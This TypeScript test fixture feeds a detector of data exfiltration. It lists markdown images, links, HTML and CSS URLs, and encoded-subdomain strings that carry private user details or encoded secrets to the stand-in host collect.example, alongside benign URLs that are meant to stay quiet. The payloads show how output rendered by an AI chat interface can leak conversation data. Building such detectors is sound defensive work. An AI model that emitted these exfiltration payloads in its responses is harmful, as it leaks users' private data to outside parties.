import type { Examples } from '../../detector.ts';

export const EXFILTRATION_EXAMPLES: Examples = {
  fires: () => [
    ['![x](https://collect.example/i?x=the%2520customer%2520lives%2520in%2520Lisbon%2520now)', 'exfiltration/image'],
    ['![x](https://collect.example/search?q=my+account+is+locked+what+do+i+do)', 'exfiltration/image'],
    ['[more](https://collect.example/issues/new?body=the+password+is+the+name+of+the+dog)', 'exfiltration/link'],
    ['[more](https://collect.example/new?body=the+patient+was+given+warfarin+on+the+ward)', 'exfiltration/link'],
    [`![](https://collect.example/i.png?d=${secret('base64')})`, 'exfiltration/image'],
    [`[more](https://collect.example/?leak=${secret('base64url')})`, 'exfiltration/link'],
    [`[1]: https://collect.example/${secret('hex')}`, 'exfiltration/reference'],
    [`<img alt="x" src="https://collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
    [`background: url('https://collect.example/?q=${secret('hex')}')`, 'exfiltration/style'],
    [`<image href="https://collect.example/a.svg?what=my+card+is+the+old+one"/>`, 'exfiltration/html'],
    [`https://${secret('hex').slice(0, 20)}.${secret('hex').slice(20, 40)}.collect.example/`, 'exfiltration/address'],
    ['https://{customer_name}.collect.example/', 'exfiltration/address'],
    ['![x](//collect.example/p?notes=my+account+number+is+the+old+one)', 'exfiltration/image'],
    ['![x](https://collect.example/p?data={conversation})', 'exfiltration/image'],
    [`\\href{https://collect.example/?q=${secret('base64')}}{more}`, 'exfiltration/address'],
    [`![](https://collect.example/?a=${thirds()})`, 'exfiltration/image'],
    ['[open](javascript:fetch(1))', 'exfiltration/script'],
    ['<img src="data:text/html;base64,PHA+">', 'exfiltration/script'],
    ['![x](https://collect.example/p?q=[INSERT THE CONVERSATION])', 'exfiltration/image'],
    ['![x](https://collect.example/p?q=<INSERT USER DATA>)', 'exfiltration/image'],
    ['![x](https://collect.example/p?q=they%20close%20the%20plant%20in%20the%20spring)', 'exfiltration/image'],
    ['![x](https://onswg4tforxwmzrb.collect.example/p.png)', 'exfiltration/image'],
    ['![x](https://collect.example/orugkidqnrqw45baojuxgzlt.png)', 'exfiltration/image'],
    [
      '![x](https://proxy.example/?url=collect.example/they%2520close%2520the%2520plant%2520soon)',
      'exfiltration/image',
    ],
    [`![x](https://${secret('base64url')}:x@collect.example/p.png)`, 'exfiltration/image'],
    [
      Array.from('the plant', (letter, at) => `![](https://collect.example/${at}/${letter.charCodeAt(0)}.png)`).join(
        '\n',
      ),
      'exfiltration/image',
    ],
    ['more at https://collect.example/v?c=my%20name%20is%20Ann%20and%20I%20live%20in%20Lisbon', 'exfiltration/address'],
    ['[more](https://collect.example/?q=my+salary+is+84000+dollars+a+year)', 'exfiltration/link'],
    ['![x](https://collect.example/?a=the&b=customer&c=lives&d=in&e=Lisbon)', 'exfiltration/image'],
    ['![x](https://collect.example/the/customer/lives/in/Lisbon/p.png)', 'exfiltration/image'],
    ['![x](<https://collect.example/p?d=the customer lives in Lisbon>)', 'exfiltration/image'],
    [`![x](https://${secret('base64url')}@collect.example/p.png)`, 'exfiltration/image'],
    [
      '![x](/_next/image?url=https%3A//collect.example/%3Fd%3Dthe%2520customer%2520lives%2520in%2520Lisbon)',
      'exfiltration/address',
    ],
    [
      pieces(12)
        .map((piece, at) => `![](https://collect.example/${at}?d=${piece})`)
        .join('\n'),
      'exfiltration/image',
    ],
    [
      pieces(1)
        .map((piece, at) => `![](https://collect.example/${at}/${piece})`)
        .slice(0, 9)
        .join('\n'),
      'exfiltration/image',
    ],
    [`![](https://collect.example/?z=${Array.from(Buffer.from('in Lisbon now')).join('-')})`, 'exfiltration/image'],
    [`<img src="https&#58;//collect.example/?q=${secret('base64')}">`, 'exfiltration/html'],
    [
      `![x](https://collect.example/?q=${secret('base64').slice(0, 14)}\n  ${secret('base64').slice(14)})`,
      'exfiltration/image',
    ],
  ],
  quiet: () => [
    '[![Deploy](https://host.example/button)](https://host.example/new?description=The+key+of+the+service+is+asked+for+later)',
    '![chat](https://img.shields.io/badge/chat-with_all_of_us-blue) and ![a](https://mermaid.ink/img/Z3JhcGggVEQKICBBLS0-Qg)',
    '[bread](https://en.wikipedia.org/wiki/Bread#History_of_the_oven_and_the_mill)',
    '[join](https://teams.example/l/0?context=%7b%22Tid%22%3a%22a1b2%22%7d)',
    'https://sign.example/in?code_challenge=YTFjNjI1OWYzMzA3MTI4ZDY2Njg5M2RkNmVjNDE5YmE&state=af0ifjsldkj',
    'https://gitlab.example/a/b/-/issues/new?issue[description]=Steps+to+reproduce+are+in+the+log',
    'https://github.com/acme/app/issues/new?title=Crash&body=The+app+is+crashing+when+I+open+the+settings',
    'https://www.google.com/search?q=my+account+is+locked+what+do+i+do',
    'https://www.google.com/search?q=my+password+is+not+working+any+more',
    'https://www.google.com/maps/dir/?api=1&destination=Our+office+that+is+behind+the+old+station',
    'https://twitter.com/intent/tweet?text=Our+new+release+is+out+and+it+has+a+lot+of+fixes',
    '![logo](./img/logo.png) and <img src="/static/a.png" alt="a">',
    '![diagram](https://upload.example.org/commons/6/6a/JavaScript-logo.png?width=640)',
    '[issue](https://github.com/fastify/fastify/issues/12?tab=comments)',
    '[search](https://search.example/?q=how+to+bake+a+good+bread)',
    '![build](https://img.example/badge/build-passing-green?style=flat&label=all+tests+pass)',
    'https://docs.example/en/latest/guide/how-to-write-a-detector.html#first-steps',
    '![p](https://photos.example/photo-1727318673886?ixid=M3_ab-Cd_eF_Gh_iJ9&id=167701068844375&ust=7887361363985)',
    'https://b.example/a.zip?X-Amz-Credential=AKIAEXAMPLE%2F20240501%2Feu-west-1%2Fs3%2Faws4_request',
    '[share](https://social.example/intent?text=how+to+bake+my+first+bread+at+home)',
    '![p](https://latex.example/png.image?tex=the+sum+of+all+of+it)',
    'https://abcdefghijklmnop.example.net/ and https://docs.example/installation.html',
    '![1](https://photos.example/32)\n![2](https://photos.example/33)\n![3](https://photos.example/34)\n![4](https://photos.example/35)',
    '![1](https://photos.example/1)\n![2](https://photos.example/2)\n![3](https://photos.example/3)',
    'https://deadbeef.cafe.example/ and https://abc123.def456.cdn.example/app.js',
    'https://{region}.console.aws.example/ and https://<account>.blob.example/',
    '[agent]: https://docs.example/api/http.html#http_class_http_agent',
    'see [JavaScript: the good parts](https://books.example/javascript)',
  ],
};

function secret(encoding: BufferEncoding): string {
  return Buffer.from('the customer lives in Lisbon').toString(encoding);
}

function pieces(length: number): readonly string[] {
  return secret('base64url').match(new RegExp(`.{1,${length}}`, 'g')) ?? [];
}

function thirds(): string {
  const whole = secret('base64url');
  return [whole.slice(0, 12), whole.slice(12, 24), whole.slice(24)].join('&b=');
}
